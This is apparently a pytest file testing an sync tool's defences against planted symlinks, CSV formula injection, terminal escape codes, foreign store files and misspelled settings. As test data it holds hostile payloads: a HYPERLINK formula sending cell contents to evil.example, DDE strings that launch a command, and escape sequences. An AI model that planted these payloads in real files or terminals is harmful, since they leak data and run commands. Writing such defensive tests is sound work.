"""Hostile input, round 3 (issue #20): planted links in the result folder, spreadsheet formulas in the
result files, terminal escape codes in what commands print, a store file that is not sfsync's, and
misspelled ``SFSYNC_*`` variables. Every case runs the real command (or the real writer) and asserts
what lands on disk, the exit status, and what a terminal would receive."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from sfsync.domain.outcome import ReportOutcome, ReportResult
from sfsync.errors import EXIT_CHECK_FAILED, EXIT_CONFIG, StoreError
from sfsync.ops.results import ResultFiles
from sfsync.sim.harness import Simulators
from sfsync.store import Store, open_store, parse_store_url
from tests.conftest import add_tasks, new_message_id, report

SFSYNC = str(Path(sys.executable).with_name("sfsync"))


def cli_env(state: Path, sims: Simulators | None = None, **extra: str) -> dict[str, str]:
    keep = {k: v for k, v in os.environ.items() if not k.startswith("SFSYNC_")}
    return {**keep, **(sims.env() if sims else {}), "SFSYNC_STATE_DIR": str(state), "SFSYNC_LOG_FORMAT": "json",
            "SFSYNC_RETRY_ATTEMPTS": "2", **extra}


def run(*args: str, env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([SFSYNC, *args], env=env, cwd=cwd, capture_output=True, text=True, timeout=120)


def no_traceback(done: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in done.stderr and "unexpected error" not in done.stderr, done.stderr


# -- 1. result files never follow a link planted in the folder ---------------------------------------------
def plant(tmp_path: Path, name: str, *, hard: bool = False) -> Path:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    victim.chmod(0o644)
    out = tmp_path / "out"
    out.mkdir(exist_ok=True)
    (os.link if hard else os.symlink)(victim, out / name)
    return victim


def assert_untouched(victim: Path) -> None:
    assert victim.read_text() == "precious\n"
    assert stat.S_IMODE(victim.stat().st_mode) == 0o644


COMMANDS = {
    "run": ["run", "--output-dir", "out"],
    "run --dry-run": ["run", "--dry-run", "--output-dir", "out"],
    "backfill": ["backfill", "--since", "2026-11-01", "--until", "2026-11-02", "--output-dir", "out"],
    "dead-letters retry": ["dead-letters", "retry", "--output-dir", "out"],
}


@pytest.mark.parametrize("name", ["success.csv", "error.csv"])
@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_no_command_writes_result_files_through_a_planted_symlink(command: str, name: str, sims: Simulators,
                                                                   tmp_path: Path) -> None:
    victim = plant(tmp_path, name)
    done = run(*COMMANDS[command], env=cli_env(tmp_path / "state", sims), cwd=tmp_path)
    no_traceback(done)
    assert done.returncode == EXIT_CONFIG, (done.returncode, done.stderr)
    assert f"out/{name}" in done.stderr and "link" in done.stderr, done.stderr
    assert_untouched(victim)


def test_a_hard_link_or_a_link_race_never_overwrites_the_file_it_points_to(tmp_path: Path) -> None:
    victim = plant(tmp_path, "success.csv", hard=True)
    with ResultFiles(tmp_path / "out") as files:
        files(ReportResult(ReportOutcome.APPLIED, "r1", "m1", "00T000000000001AAA", new_status="Delivered"))
    assert_untouched(victim)
    assert "Delivered" in (tmp_path / "out" / "success.csv").read_text()
    assert stat.S_IMODE((tmp_path / "out" / "success.csv").stat().st_mode) == 0o600


def test_the_output_folder_itself_may_be_a_link(tmp_path: Path) -> None:
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "out").symlink_to(real)
    with ResultFiles(tmp_path / "out") as files:
        files(ReportResult(ReportOutcome.APPLIED, "r1", "m1", "00T000000000001AAA", new_status="Delivered"))
    assert "Delivered" in (real / "success.csv").read_text()


def test_report_html_is_never_written_through_a_planted_symlink(sims: Simulators, tmp_path: Path) -> None:
    victim = plant(tmp_path, "report.html")
    done = run("report", "--html", "out/report.html", env=cli_env(tmp_path / "state", sims), cwd=tmp_path)
    no_traceback(done)
    assert done.returncode == EXIT_CONFIG, done.stderr
    assert "out/report.html" in done.stderr
    assert_untouched(victim)
    done = run("report", "--html", "out/fresh.html", env=cli_env(tmp_path / "state", sims), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "<html" in (tmp_path / "out" / "fresh.html").read_text().lower()


def test_a_public_key_is_never_written_through_a_planted_temporary_file(tmp_path: Path) -> None:
    from sfsync.push.webhooks import write_public_key

    victim = plant(tmp_path, "key.pem.tmp")
    write_public_key(tmp_path / "out" / "key.pem", b"-----BEGIN PUBLIC KEY-----\n", append=False)
    assert_untouched(victim)
    assert (tmp_path / "out" / "key.pem").read_bytes() == b"-----BEGIN PUBLIC KEY-----\n"


# -- 5. nothing a spreadsheet would run lands in a CSV ---------------------------------------------------
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/"&A2,"open")'
DDE = "=1+cmd|'/C calc'!A0"


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS), (cell, row)


def test_result_files_escape_formulas_from_tasks_and_reports(sims: Simulators, tmp_path: Path) -> None:
    m1, m2 = new_message_id(), new_message_id()
    add_tasks(sims, [m1], SMS_Status__c=HYPERLINK)
    add_tasks(sims, [m2], SMS_Status__c="@SUM(1+1)*cmd|' /C calc'!A0")
    sims.mm.add_reports([report(m1, "delivered", DDE), report(m2, "delivered", "220")])
    done = run("run", "--output-dir", "out", env=cli_env(tmp_path / "state", sims), cwd=tmp_path)
    no_traceback(done)
    success = cells((tmp_path / "out" / "success.csv").read_text())
    error = cells((tmp_path / "out" / "error.csv").read_text())
    assert_inert(success + error)
    rows = {r[1]: dict(zip(error[0], r, strict=True)) for r in error[1:]} | {
        r[1]: dict(zip(success[0], r, strict=True)) for r in success[1:]}
    assert rows[m1]["OLD_STATUS"] == "'" + HYPERLINK
    assert rows[m1]["NEW_CODE"] == "'" + DDE
    assert rows[m2]["OLD_STATUS"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("lead", DANGEROUS)
def test_every_dangerous_first_character_is_escaped(lead: str, tmp_path: Path) -> None:
    value = f"{lead}1+2"
    with ResultFiles(tmp_path) as files:
        files(ReportResult(ReportOutcome.APPLIED, "r1", "m1", "00T000000000001AAA", old_status=value,
                           new_status="Delivered", new_code=value))
        files(ReportResult(ReportOutcome.INVALID, value, value, value, error=value))
    success = cells((tmp_path / "success.csv").read_bytes().decode())  # (read_text would turn \r into \n)
    error = cells((tmp_path / "error.csv").read_bytes().decode())
    assert_inert(success + error)
    assert success[1][3] == "'" + value and error[1][2] == "'" + value
    assert success[1][5] == "Delivered"  # a harmless cell is left as it is


def test_dead_letters_csv_escapes_formulas(tmp_path: Path) -> None:
    store = Store(tmp_path / "state" / "sfsync.db")
    store.add_dead_letter(DDE, HYPERLINK, {"status": "-2+3"}, "poll", "+cmd", sf_error="@x")
    store.dispose()
    done = run("dead-letters", "list", "--csv", env=cli_env(tmp_path / "state"), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    rows = cells(done.stdout)
    assert_inert(rows)
    assert "'" + DDE in rows[1] and "'" + HYPERLINK in rows[1]


# -- 6. no control character from a value reaches a terminal ---------------------------------------------
ESCAPES = "\x1b]0;pwned\x07\x1b[2J"
INVISIBLE = {chr(c) for c in (*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0))} | {
    "\u2028", "\u2029", *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))}


def assert_visible(text: str) -> None:
    bad = sorted({c for c in text if c in INVISIBLE})
    assert not bad, (bad, text)


def test_report_text_never_passes_escape_codes_from_task_values(sims: Simulators, tmp_path: Path) -> None:
    add_tasks(sims, [new_message_id()], SMS_Status__c=ESCAPES + "Delivered")
    add_tasks(sims, [new_message_id()], SMS_Status__c="\u202eDelivered\x9b2J\u2066")
    env = cli_env(tmp_path / "state", sims, SFSYNC_LOG_FORMAT="text")
    done = run("report", "--days", "36500", env=env, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert_visible(done.stdout + done.stderr)
    assert "\\x1b]0;pwned\\x07\\x1b[2JDelivered" in done.stdout  # shown, escaped
    assert "\\u202eDelivered" in done.stdout
    as_json = run("report", "--days", "36500", "--json", env=env, cwd=tmp_path)
    assert as_json.returncode == 0
    assert_visible(as_json.stdout)  # JSON escapes them itself


def test_no_command_prints_control_characters_from_stored_or_configured_values(sims: Simulators,
                                                                              tmp_path: Path) -> None:
    state = tmp_path / ("state" + ESCAPES)
    store = Store(state / "sfsync.db")
    store.add_dead_letter("r" + ESCAPES, "m" + ESCAPES, {"status": ESCAPES}, "poll", "bad" + ESCAPES,
                          sf_error="\u202eerr")
    store.dispose()
    message = new_message_id()
    add_tasks(sims, [message])
    sims.mm.add_reports([report(message, "delivered", "9" + ESCAPES)])
    env = cli_env(state, sims, SFSYNC_LOG_FORMAT="text", SFSYNC_METADATA_TASK_KEY="key" + ESCAPES)
    for argv in (["run"], ["status"], ["dead-letters", "list"], ["dead-letters", "show", "1"],
                 ["trace", "m" + ESCAPES], ["config"], ["doctor"], ["backfill", "--list"]):
        done = run(*argv, env=env, cwd=tmp_path)
        no_traceback(done)
        assert_visible(done.stdout + done.stderr)
        if argv not in (["run"], ["backfill", "--list"]):  # (these name no stored value)
            shown = done.stdout + done.stderr  # the value is shown, made visible (JSON: its own escape)
            assert "\\x1b" in shown or "\\u001b" in shown, argv


# -- 4. a store that is not sfsync's ---------------------------------------------------------------------
def foreign_store(path: Path, kind: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if kind == "dev-null":
        path.symlink_to("/dev/null")
        return
    if kind == "folder":
        path.mkdir()
        return
    db = sqlite3.connect(path)
    if kind == "word-version":
        db.execute("CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT NOT NULL)")
        db.execute("INSERT INTO meta VALUES ('schema_version', 'six')")
    elif kind == "other-app":
        db.execute("CREATE TABLE ledger (id INTEGER PRIMARY KEY, amount REAL, memo TEXT)")
        db.execute("CREATE TABLE users (id INTEGER PRIMARY KEY, name TEXT)")
    elif kind == "other-app-claiming-6":
        db.execute("CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT NOT NULL)")
        db.execute("INSERT INTO meta VALUES ('schema_version', '6')")
        db.execute("CREATE TABLE ledger (id INTEGER PRIMARY KEY, amount REAL, memo TEXT)")
    elif kind == "other-app-claiming-3":
        db.execute("CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT NOT NULL)")
        db.execute("INSERT INTO meta VALUES ('schema_version', '3')")
        db.execute("CREATE TABLE inbox (id INTEGER PRIMARY KEY, memo TEXT)")
    db.commit()
    db.close()


FOREIGN = ("word-version", "other-app", "other-app-claiming-6", "other-app-claiming-3", "dev-null", "folder")
STORE_COMMANDS = (["status"], ["trace", "00T000000000001"], ["dead-letters", "list"], ["store", "migrate"],
                  ["backfill", "--list"], ["run"])


@pytest.mark.parametrize("kind", FOREIGN)
def test_a_store_that_is_not_sfsyncs_is_a_configuration_error_for_every_command(kind: str, sims: Simulators,
                                                                                 tmp_path: Path) -> None:
    state = tmp_path / "state"
    foreign_store(state / "sfsync.db", kind)
    env = cli_env(state, sims)
    for argv in STORE_COMMANDS:
        done = run(*argv, env=env, cwd=tmp_path)
        no_traceback(done)
        assert done.returncode == EXIT_CONFIG, (argv, done.returncode, done.stderr)
        assert "sfsync.db" in done.stderr and "SFSYNC_STATE_DIR" in done.stderr, (argv, done.stderr)
    if kind not in ("dev-null", "folder"):
        with sqlite3.connect(state / "sfsync.db") as db:  # left as it was: nothing created in it
            tables = {r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert "dead_letters" not in tables


@pytest.mark.parametrize("kind", FOREIGN)
def test_doctor_fails_a_store_that_is_not_sfsyncs(kind: str, tmp_path: Path) -> None:
    state = tmp_path / "state"
    foreign_store(state / "sfsync.db", kind)
    done = run("doctor", "--json", env=cli_env(state), cwd=tmp_path)
    no_traceback(done)
    assert done.returncode == EXIT_CHECK_FAILED
    checks = {c["name"]: c for c in json.loads(done.stdout)}
    assert checks["store"]["status"] == "fail", checks["store"]
    assert "sfsync.db" in checks["store"]["detail"]


def test_doctor_still_passes_a_real_store(tmp_path: Path) -> None:
    Store(tmp_path / "state" / "sfsync.db").dispose()
    done = run("doctor", "--json", env=cli_env(tmp_path / "state"), cwd=tmp_path)
    checks = {c["name"]: c for c in json.loads(done.stdout)}
    assert checks["store"]["status"] == "ok", checks["store"]


def test_a_postgresql_schema_holding_another_apps_tables_is_refused(pg_url: str, tmp_path: Path) -> None:
    import psycopg

    target = parse_store_url(pg_url, tmp_path, os.environ["SFSYNC_STORE_PASSWORD"])
    with psycopg.connect(pg_url, password=os.environ["SFSYNC_STORE_PASSWORD"]) as conn:
        conn.execute("CREATE TABLE ledger (id SERIAL PRIMARY KEY, amount NUMERIC)")
    with pytest.raises(StoreError, match="not an sfsync store"):
        open_store(target)


# -- 9. misspelled SFSYNC_* variables --------------------------------------------------------------------
def warnings_about(stderr: str, name: str) -> list[dict[str, Any]]:
    lines = [json.loads(line) for line in stderr.splitlines() if line.startswith("{")]
    return [e for e in lines if e["level"] == "warning" and name in e["msg"]]


def test_a_misspelled_variable_gets_one_warning_naming_the_closest_setting(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("SFSYNC_RETRY_ATEMPTS=3\n")
    env = cli_env(tmp_path / "state", SFSYNC_MM_APIKEY="hunter2-secret-value", SFSYNC_TEST_WHATEVER="1",
                  SFSYNC_CODE_MAP=str(Path(__file__).parents[1] / "sfsync" / "data" / "status_codes.toml"),
                  SFSYNC_MM_ACCOUNTS="acme", SFSYNC_MM_ACCOUNT_ACME_API_KEY="k1",
                  SFSYNC_MM_ACCOUNT_ACME_API_SECRET="s1")
    done = run("status", env=env, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    (key,) = warnings_about(done.stderr, "SFSYNC_MM_APIKEY")
    assert "SFSYNC_MM_API_KEY" in key["msg"]
    (retry,) = warnings_about(done.stderr, "SFSYNC_RETRY_ATEMPTS")
    assert "SFSYNC_RETRY_ATTEMPTS" in retry["msg"]
    for known in ("SFSYNC_TEST_WHATEVER", "SFSYNC_CODE_MAP", "SFSYNC_MM_ACCOUNT_ACME_API_KEY", "SFSYNC_MM_ACCOUNTS"):
        assert not warnings_about(done.stderr, known), known
    assert "hunter2" not in done.stderr + done.stdout

    config = run("config", "--json", env=env, cwd=tmp_path)
    assert config.returncode == 0, config.stderr
    rows = {r["variable"]: r for r in json.loads(config.stdout)}
    assert "SFSYNC_MM_API_KEY" in rows["SFSYNC_MM_APIKEY"]["value"] and rows["SFSYNC_MM_APIKEY"]["source"] == \
        "environment"
    assert rows["SFSYNC_RETRY_ATEMPTS"]["source"] == ".env"
    assert "hunter2" not in config.stdout + config.stderr

    doctor = run("doctor", "--json", env=env, cwd=tmp_path)
    checks = [c for c in json.loads(doctor.stdout) if "SFSYNC_MM_APIKEY" in c["detail"]]
    assert [c["status"] for c in checks] == ["warn"] and "SFSYNC_MM_API_KEY" in checks[0]["detail"]
    assert "hunter2" not in doctor.stdout + doctor.stderr


def test_the_warning_is_logged_once_per_process(caplog: pytest.LogCaptureFixture) -> None:
    from sfsync.settings.config import load_settings, warn_unknown

    environ = {"SFSYNC_FIELD_STATUSS": "SMS_Status__c"}
    with caplog.at_level(logging.WARNING):
        for _ in range(3):
            warn_unknown(load_settings(environ=environ))
    about = [r for r in caplog.records if "SFSYNC_FIELD_STATUSS" in r.getMessage()]
    assert len(about) == 1 and "SFSYNC_FIELD_STATUS" in about[0].getMessage().replace("SFSYNC_FIELD_STATUSS", "")

